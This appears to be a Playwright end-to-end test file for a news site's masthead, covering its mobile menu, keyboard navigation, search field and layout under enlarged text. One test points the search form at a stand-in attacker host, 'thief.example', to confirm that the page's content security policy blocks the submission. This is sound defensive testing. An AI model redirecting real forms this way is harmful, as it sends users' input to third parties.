/// <reference lib="dom" />
import type { Page } from "playwright-core";
import { afterAll, beforeAll, expect, test } from "vitest";
import { watchPage } from "../kit/browser/launch-browser.ts";
import { startVisit, type Visit } from "../kit/browser/visit.ts";

const ARTICLE = "/2026/11/specimen/";
const PREFIX = "/paper/";

let visit: Visit;
beforeAll(async () => {
  visit = await startVisit({ pathPrefix: PREFIX });
});
afterAll(() => visit.end());

async function open(url: string, width: number): Promise<{ page: Page; problems: string[] }> {
  const page = await visit.browser.newPage({ viewport: { width, height: 800 } });
  const problems = watchPage(page, new URL(visit.server.url).origin);
  await page.goto(visit.at(url));
  return { page, problems };
}

/** In the page: links and fields of the masthead that no reader can see or reach: something clips or covers them. */
function unseen(): string[] {
  return [...document.querySelectorAll(".masthead :is(a, input, button)")].flatMap((link) => {
    const { left, right, top, bottom } = link.getBoundingClientRect();
    const above = document.elementFromPoint((left + right) / 2, (top + bottom) / 2);
    const isSeen = left >= 0 && right <= innerWidth && right > left && link.contains(above);
    return isSeen ? [] : [link.outerHTML];
  });
}

test.each([320, 390])(
  "at %i pixels the keyboard opens a menu of all sections, leaves it, and closes it again",
  async (width) => {
    const { page } = await open(ARTICLE, width);
    const sections = page.getByRole("navigation", { name: "Sections" }).getByRole("link");
    expect(await sections.first().isVisible()).toBe(false);
    const menu = page.locator("summary", { hasText: "Menu" });
    await menu.focus();
    await page.keyboard.press("Enter");
    expect(await page.evaluate(unseen)).toEqual([]);
    expect(await page.locator(".section-nav [aria-current]").textContent()).toBe("World");
    const count = await sections.count();
    for (let link = 0; link <= count; link += 1) await page.keyboard.press("Tab");
    expect(await page.evaluate(() => document.activeElement?.getAttribute("name"))).toBe("q");
    await menu.press("Enter");
    expect(await sections.first().isVisible()).toBe(false);
    await page.close();
  },
);

test.each([768, 1024, 1280])(
  "at %i pixels every section is in view, without a menu",
  async (width) => {
    const { page } = await open(ARTICLE, width);
    expect(await page.evaluate(unseen)).toEqual([]);
    expect(await page.locator("summary", { hasText: "Menu" }).isVisible()).toBe(false);
    expect(await page.getByRole("navigation", { name: "Sections" }).getByRole("link").count()).toBe(
      await page.locator(".section-nav a").count(),
    );
    await page.close();
  },
);

test.each(["/", ARTICLE, "/no-such-page/"])(
  "from %s, words typed into the search field open the search page with them",
  async (url) => {
    const { page, problems } = await open(url, 390);
    await page.getByRole("searchbox").fill("treaty");
    await page.keyboard.press("Enter");
    await page.waitForURL(visit.at("/search/?q=treaty"));
    await page.locator(".search-results > li").first().waitFor();
    expect(await page.getByRole("searchbox").inputValue()).toBe("treaty");
    expect(problems.filter((problem) => !/404/.test(problem))).toEqual([]);
    await page.close();
  },
);

test("a page's policy lets the field send to no other site", async () => {
  const { page, problems } = await open(ARTICLE, 390);
  await page.locator(".search-field").evaluate((form: HTMLFormElement) => {
    form.action = "https://thief.example/";
    form.requestSubmit();
  });
  await expect.poll(() => problems.join("\n")).toContain("form-action");
  await page.close();
});

test("with text twice as large, neither the masthead nor its menu is wider than a phone", async () => {
  const context = await visit.browser.newContext({ viewport: { width: 320, height: 800 } });
  const page = await context.newPage();
  // Media queries follow a reader's default size of text, which a stylesheet cannot set: so half the width stands for it.
  for (const url of ["/", ARTICLE]) {
    await page.goto(visit.at(url));
    for (const width of [160, 195]) {
      await page.setViewportSize({ width, height: 400 });
      await page.locator("details.menu").evaluate((menu: HTMLDetailsElement) => {
        menu.open = true;
      });
      const wide = await page.evaluate(() =>
        [...document.querySelectorAll(".masthead *")]
          .filter((element) => element.getBoundingClientRect().right > innerWidth + 0.5)
          .map((element) => element.outerHTML.slice(0, 80)),
      );
      expect(wide, `${url} at ${width}`).toEqual([]);
    }
  }
  await context.close();
});
